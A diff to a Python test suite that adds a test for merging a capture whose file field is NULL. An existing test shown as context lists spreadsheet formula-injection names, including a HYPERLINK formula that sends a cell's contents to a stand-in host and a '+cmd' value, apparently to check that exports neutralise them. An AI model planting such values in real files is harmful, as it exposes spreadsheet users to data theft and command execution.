@@ -197,6 +197,12 @@ class Values(Stranger):
         result = self.run_(("verdict", "--study", self.study, "--json"))
         self.assertEqual(result.status, 0, result.stderr)
 
+    def test_a_capture_without_a_file_is_merged_quietly(self):
+        loosely.write(self.study, ("UPDATE capture SET file = NULL", ()))
+        result = self.run_(("merge", "--study", os.path.join(self.folder, "mine.culprit"), self.study))
+        self.assertIn(result.status, (0, 2))
+        self.assertNotIn("CRITICAL", result.stderr)
+
     def test_names_that_spreadsheets_would_run(self):
         names = ['=HYPERLINK("http://x/?"&A1)', "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "plain"]
         with closing(sqlite3.connect(self.study, isolation_level=None)) as database:
